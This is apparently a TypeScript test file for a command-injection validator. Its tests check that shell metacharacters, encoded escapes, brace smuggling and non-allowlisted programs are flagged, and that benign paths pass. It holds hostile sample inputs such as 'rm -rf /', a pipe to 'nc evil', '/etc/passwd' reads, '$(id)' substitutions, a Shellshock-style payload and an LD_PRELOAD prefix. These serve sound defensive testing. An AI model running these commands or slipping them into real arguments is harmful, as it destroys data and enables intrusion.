import { describe, expect, it } from 'vitest';
import type { ArgumentRule } from '../api/types.js';
import { inspectCommand, inspectShell, MAX_SHELL_VALUE_LENGTH } from './shell.js';

describe('inspectShell: metacharacters that start a second command or an expansion', () => {
  it.each([
    ['backup.tar; rm -rf / ;', 'shell-separator', "';'"],
    ['a && b', 'shell-separator', "'&&'"],
    ['a || b', 'shell-separator', "'||'"],
    ['a | nc evil 1', 'shell-separator', "'|'"],
    ['a & b', 'shell-separator', "'&'"],
    ['a\nid', 'shell-newline', ''],
    ['a\r\nid', 'shell-newline', ''],
    ['$(id)', 'shell-substitution', "'$('"],
    ['`id`', 'shell-substitution', "'`'"],
    ['${HOME}', 'shell-substitution', "'${'"],
    ['$[1+1]', 'shell-substitution', "'$['"],
    ['cat${IFS}/etc/passwd', 'shell-substitution', "'${'"],
    ['x$IFS$9y', 'shell-variable', "'$'"],
    ['$@', 'shell-variable', "'$@'"],
    ['a > /etc/x', 'shell-redirection', "'>'"],
    ['a >> log', 'shell-redirection', "'>>'"],
    ['a < /etc/passwd', 'shell-redirection', "'<'"],
    ['cat <<EOF', 'shell-redirection', "'<<'"],
    ['a &> /dev/null', 'shell-redirection', "'&>'"],
    ['diff <(ls) x', 'shell-substitution', "'<('"],
    ['tee >(sh)', 'shell-substitution', "'>('"],
    ['() { :;}; echo pwned', 'shell-function-definition', ''],
    ['{cat,/etc/passwd}', 'shell-brace-expansion', ''],
    ['{ls,-la}', 'shell-brace-expansion', ''],
  ])('%j → %s', (value, rule, token) => {
    const f = inspectShell(value, undefined);
    expect(f?.rule).toBe(rule);
    expect(f?.detector).toBe('commandInjection');
    if (token !== '') expect(f?.message).toContain(token);
  });

  it('names the brief example precisely', () => {
    expect(inspectShell('backup.tar; rm -rf / ;', undefined)?.message).toBe("commandInjection: command separator ';'");
  });

  it('sees through the quotes a server may wrap the value in', () => {
    // Breaks out of "…": the separator is live when the server double-quotes the value.
    expect(inspectShell('photo 1.jpg"; uname -a; "', undefined)?.rule).toBe('shell-separator');
    // Breaks out of '…'.
    expect(inspectShell("x'; id; '", undefined)?.rule).toBe('shell-separator');
    // Quoted in the value itself, but live if the server single-quotes it.
    expect(inspectShell("'a;b'", undefined)?.rule).toBe('shell-separator');
    // $( ) is live inside double quotes.
    expect(inspectShell("'$(id)'", undefined)?.rule).toBe('shell-substitution');
  });

  it('refuses backslash-escaped metacharacters (live again wherever the value is evaluated twice)', () => {
    expect(inspectShell('a\\;b', undefined)?.rule).toBe('shell-separator');
    expect(inspectShell('--verbose\\|id', undefined)?.rule).toBe('shell-separator');
    expect(inspectShell('\\$(id)', undefined)?.rule).toBe('shell-substitution');
    expect(inspectShell('x\\>out', undefined)?.rule).toBe('shell-redirection');
    // Not an expansion even unescaped, and escaped backslashes escape nothing.
    expect(inspectShell('price\\$5', undefined)).toBeUndefined();
    expect(inspectShell('x\\\\y', undefined)).toBeUndefined();
    expect(inspectShell('foo\\ bar.txt', undefined)).toBeUndefined();
  });

  it('reads \\r and \\n as Windows separators after a drive letter or UNC prefix', () => {
    expect(inspectShell('C:\\temp\\report.txt', undefined)).toBeUndefined();
    expect(inspectShell('C:\\new\\notes.txt', undefined)).toBeUndefined();
    expect(inspectShell('\\\\server\\new', undefined)).toBeUndefined();
    expect(inspectShell('temp\\nid', undefined)?.rule).toBe('shell-newline');
  });

  it('reads three-digit octal escapes as printf and $\'…\' do, except in Windows paths', () => {
    expect(inspectShell('\\073id', undefined)?.rule).toBe('shell-separator');
    expect(inspectShell('a\\174id', undefined)?.rule).toBe('shell-separator');
    expect(inspectShell('C:\\2024\\012 report', undefined)).toBeUndefined();
    expect(inspectShell('v\\100', undefined)).toBeUndefined();
  });

  it.each([
    ['file%3bid', 'shell-separator'],
    ['file%0aid', 'shell-newline'],
    ['file%0did', 'shell-newline'],
    ['x%7cid', 'shell-separator'],
    ['x%26id', 'shell-separator'],
    ['x%60id%60', 'shell-substitution'],
    ['x%24(id)', 'shell-substitution'],
    ['x%253bid', 'shell-separator'],
    ['src/\\nnslookup x', 'shell-newline'],
    ['a\\x3bid', 'shell-separator'],
    ['a\\u0026id', 'shell-separator'],
  ])('encoded %s → %s', (value, rule) => {
    const f = inspectShell(value, undefined);
    expect(f?.rule).toBe(rule);
  });

  it.each([
    'path/to/file.tar',
    '-Va',
    '--color=always',
    'category:string',
    '{{name}}',
    '{{path/to/file}}',
    'https://example.com?a=1',
    'key=value',
    '*.txt',
    '**/*.{js,json}',
    'path/to/{a,b}/{x,y}',
    '~/Documents',
    "I'm",
    'name="example.exe"',
    'say "Hello world"',
    '50% off',
    'user@host:path',
    'nixpkgs#pkg',
    'photo (1).jpg',
    'C:\\Users\\new\\notes.txt',
    'HKLM\\SOFTWARE\\Example',
    '$',
    'US$ 5',
  ])('benign %j passes', (value) => {
    expect(inspectShell(value, undefined)).toBeUndefined();
  });

  it('refuses a value longer than the kernel accepts for one argument', () => {
    expect(inspectShell('a'.repeat(MAX_SHELL_VALUE_LENGTH + 1), undefined)?.rule).toBe('shell-too-long');
  });
});

describe('inspectShell: NUL bytes and globs', () => {
  it.each([['a\0b'], ['report.txt\0.pdf'], ['\0'], ['report.txt%00.pdf']])('%j → shell-nul', (value) => {
    expect(inspectShell(value, undefined)?.rule).toBe('shell-nul');
  });

  it('allows globs: they add file names to the same command but cannot start another', () => {
    for (const value of ['*.txt', 'report-?.csv', 'logs/[0-9]*.log', 'src/*.{js,json}', 'a b*']) {
      expect(inspectShell(value, undefined), value).toBeUndefined();
    }
  });
});

describe('inspectCommand: argv[0] allowlist, no operators', () => {
  const rule: ArgumentRule = { kind: 'command', commands: ['git', 'ls', '/opt/tools/report'] };

  it('allows listed programs with ordinary arguments, quotes included', () => {
    expect(inspectCommand('git log --oneline -n 5', rule)).toBeUndefined();
    expect(inspectCommand('ls -la "my dir"', rule)).toBeUndefined();
    expect(inspectCommand("git commit -m 'fix; quoted'", rule)).toBeUndefined();
    expect(inspectCommand('/usr/bin/git status', rule)).toBeUndefined();
    expect(inspectCommand('/opt/tools/report --daily', rule)).toBeUndefined();
    expect(inspectCommand('"git" status', rule)).toBeUndefined();
    expect(inspectCommand('ls -la *.txt docs/[a-c]?.md', rule)).toBeUndefined();
  });

  it('refuses other programs, including look-alike paths and env prefixes', () => {
    expect(inspectCommand('rm -rf /', rule)?.rule).toBe('command-not-allowed');
    expect(inspectCommand('/tmp/evil/git status', rule)?.rule).toBe('command-not-allowed');
    expect(inspectCommand('LD_PRELOAD=/tmp/x.so git status', rule)?.rule).toBe('command-not-allowed');
    expect(inspectCommand('report', rule)?.rule).toBe('command-not-allowed');
    expect(inspectCommand('/usr/bin/g?t status', rule)?.rule).toBe('command-not-allowed');
  });

  it('refuses every operator even after an allowed program', () => {
    expect(inspectCommand('git status; rm -rf /', rule)?.rule).toBe('shell-separator');
    expect(inspectCommand('ls | sh', rule)?.rule).toBe('shell-separator');
    expect(inspectCommand('ls > /etc/passwd', rule)?.rule).toBe('shell-redirection');
    expect(inspectCommand('git log "$(id)"', rule)?.rule).toBe('shell-substitution');
    expect(inspectCommand('ls `id`', rule)?.rule).toBe('shell-substitution');
    expect(inspectCommand('ls\nid', rule)?.rule).toBe('shell-newline');
    expect(inspectCommand('ls a\0b', rule)?.rule).toBe('shell-nul');
    expect(inspectCommand('git log "unterminated', rule)?.rule).toBe('command-unbalanced-quote');
  });

  it('without a list, any program without operators passes', () => {
    expect(inspectCommand('make test', undefined)).toBeUndefined();
    expect(inspectCommand('make test && rm -rf /', undefined)?.rule).toBe('shell-separator');
  });
});

describe('inspectShell: shapes that only look like escapes or brace smuggling', () => {
  it('reads a brace group with text before it as file-name alternation: every word keeps that prefix', () => {
    for (const value of ['--exclude={build/,coverage/}', 'assets/{img/icons,img/logos}', 'archive/{2022/h2,2023/h1}.zip', '--skip={cache/,-tmp}']) {
      expect(inspectShell(value, undefined), value).toBeUndefined();
    }
  });

  it('still refuses a brace group that starts a word, also behind empty quotes or a blank', () => {
    for (const value of ['{wget,-qO-,example.test}', '""{rm,-rf,tmp}', 'notes.txt {id,/tmp/x}', '{bin/sh,-c}']) {
      expect(inspectShell(value, undefined)?.rule, value).toBe('shell-brace-expansion');
    }
  });

  it('lets a backslash-r stand as a path separator: a carriage return ends no command', () => {
    expect(inspectShell('manuals\\release-notes.txt', undefined)).toBeUndefined();
    expect(inspectShell('tools\\rotate.ps1', undefined)).toBeUndefined();
    // The newline half of a CRLF pair is still a separator.
    expect(inspectShell('log\\r\\nwhoami', undefined)?.rule).toBe('shell-newline');
    expect(inspectShell('\\ntouch x', undefined)?.rule).toBe('shell-newline');
  });

  it('reads a percent-encoded backslash before n as a URL-spelled Windows separator', () => {
    expect(inspectShell('invoices%5Cnovember.pdf', undefined)).toBeUndefined();
    // Raw newline escapes and percent-encoded hex/octal escapes of metacharacters still count.
    expect(inspectShell('invoices\\november', undefined)?.rule).toBe('shell-newline');
    expect(inspectShell('x%5Cx7cid', undefined)?.rule).toBe('shell-separator');
    expect(inspectShell('x%0aid', undefined)?.rule).toBe('shell-newline');
  });
});
